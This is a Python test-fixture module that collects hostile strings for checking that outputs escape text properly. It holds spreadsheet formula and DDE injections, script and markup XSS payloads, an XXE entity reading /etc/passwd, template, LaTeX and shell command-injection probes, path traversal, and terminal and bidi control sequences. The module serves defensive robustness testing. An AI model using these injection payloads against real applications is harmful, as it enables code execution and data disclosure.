"""Texts that break an output which takes text for anything but text: to put in names, titles and sentences.

Each is a text that a document, the name of a file, a manifest or a rule can hold. `HOSTILE` has them all by
name, `READABLE` those that a manifest or a rule in YAML takes; `in_file_names` makes files with those that a
file system takes.
"""

import re
from pathlib import Path
from types import MappingProxyType

FORMULAS = MappingProxyType(
    {
        "formula": '=HYPERLINK("http://example.com/?"&A1,"open")',
        "formula-dde": "=cmd|' /C calc'!A0",
        "formula-plus": "+1+1",
        "formula-minus": "-2+3",
        "formula-at": "@SUM(A1:A9)",
        "formula-tab": "\t=1+1",
        "formula-return": "\r=1+1",
        "formula-wide": "＝1+1",
        "formula-quoted": "'=1+1",
    }
)
"""What a spreadsheet would run."""

MARKUP = MappingProxyType(
    {
        "html": "<script>alert(1)</script>",
        "html-attribute": '" onmouseover="alert(1)" x=\'',
        "html-end": "</td></tr></table></title></style></script>--><h1>",
        "html-entity": "&lt;b&gt; &amp; &#0; &#xFFFF; &nbsp",
        "xml-cdata": "]]><x/><![CDATA[",
        "xml-doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
        "template": "{{ 7*7 }} ${7*7} {% raw %} %s %(x)s {0.__class__}",
        "markdown": "[open](javascript:alert(1)) ![](x) **b** _i_ `c` | # - > ~~s~~",
        "markdown-table": "a|b\\|c\n|---|",
        "rich": "[bold red]rood[/] [link=http://example.com]x[/link] [/]",
        "latex": "\\input{/etc/passwd} $x_1^2$ 100% #1 & ~ { } \\end{document}",
        "typst": '#read("/etc/passwd") $x$ *b* @label <label>',
        "rtf": "{\\rtf1\\object\\objdata 0105}",
        "pdf": ") Tj ET Q \\ ( endstream endobj",
        "url": "javascript:alert(1)//?a=1&b=%0d%0aSet-Cookie:x",
        "shell": "$(touch x) `touch x`; | && > x",
        "annotation": "::error file=x,line=1::x%0A::set-output name=x::y",
        "bibtex": "@book{x, title = {}}, } \\write18{touch x}",
        "quotes": "\"'`´‘’“”„«»,;\t",
        "path": "../../etc/passwd",
    }
)
"""What a page, a typesetter, a terminal library or a shell would take for its own."""

CONTROLS = MappingProxyType(
    {
        "ansi": "\x1b[31mrood\x1b[0m\x1b[2J\x1b[1;1H",
        "ansi-title": "\x1b]0;titel\x07",
        "ansi-link": "\x1b]8;;http://example.com\x1b\\klik\x1b]8;;\x1b\\",
        "ansi-c1": "\x9b31mrood",
        "backspace": "goed\x08\x08\x08\x08kwaad",
        "return": "onschuldig\rschuldig",
        "crlf": "eerste\r\nX: tweede\r\n\r\nderde",
        "line-feeds": "\n\n\n",
        "line-separators": "een\u2028twee\u2029drie\x85vier\x0bvijf\x0czes",
        "nul": "voor\0na",
        "xml-forbidden": "a\x01b\x02c\x0bd\x1fe\x7ff\ufffeg\uffffh",
        "bidi": "nota\u202efdp.exe",
        "bidi-isolate": "a\u2066b\u2067c\u2068d\u2069e\u200ff",
        "zero-width": "wijk\u200bteam\u200d\u2060\ufeff",
        "tags": "wijk\U000e0077\U000e0069team",
    }
)
"""Characters that steer instead of being shown, or that XML cannot carry."""

LETTERS = MappingProxyType(
    {
        "surrogate": "nota\udce9",
        "surrogate-high": "nota\ud83d",
        "emoji": "👩‍👩‍👧‍👦🏳️‍🌈👍🏽",
        "combining": "Z̸̢̖͔̑̓a̴̛͙͋̾l̶̰͐͠g̷̱̈́o̵̢̓",
        "decomposed": "coo\u0308rdinatie e\u0301e\u0301n",
        "rtl": "سياسة الرعاية מדיניות",
        "wide": "全角ＡＢＣ",
        "private": "\ue000\uf8ff\U0010fffd",
        "astral": "𝓶𝓪𝓪𝓽𝔀𝓮𝓻𝓴 𠜎",
        "empty": "",
        "blank": " \u00a0\u3000 ",
        "long": "maatwerk" * 5_000,
        "long-words": "op maat en dichtbij " * 2_000,
    }
)
"""Text that is text, and hard to carry all the same."""

HOSTILE = MappingProxyType({**FORMULAS, **MARKUP, **CONTROLS, **LETTERS})
"""All of them."""


_NOT_READABLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufeff\ufffe\uffff]")
READABLE = MappingProxyType({name: text for name, text in HOSTILE.items() if not _NOT_READABLE.search(text)})
"""Those that a YAML file can hold, written as in JSON."""

_LONGEST_NAME = 200  # bytes; with a suffix it stays below the 255 of most file systems


def in_file_names(folder: Path, suffix: str = ".txt") -> dict[str, Path]:
    """Make an empty file for each text that can be the name of one, and return the paths by the text's name.

    What no name can hold, such as a slash, is left out of it; the file system decides about the rest.

    Args:
        folder: in which.
        suffix: that each name gets.
    """
    paths = {}
    for name, text in HOSTILE.items():
        shown = text.replace("/", "").replace("\0", "")
        while len(shown.encode("utf-8", "surrogatepass")) > _LONGEST_NAME:
            shown = shown[: len(shown) // 2]
        path = folder / f"{shown}{suffix}"
        try:
            path.touch(exist_ok=False)
        except (OSError, ValueError):  # Windows and macOS take fewer than Linux does
            continue
        paths[name] = path
    return paths
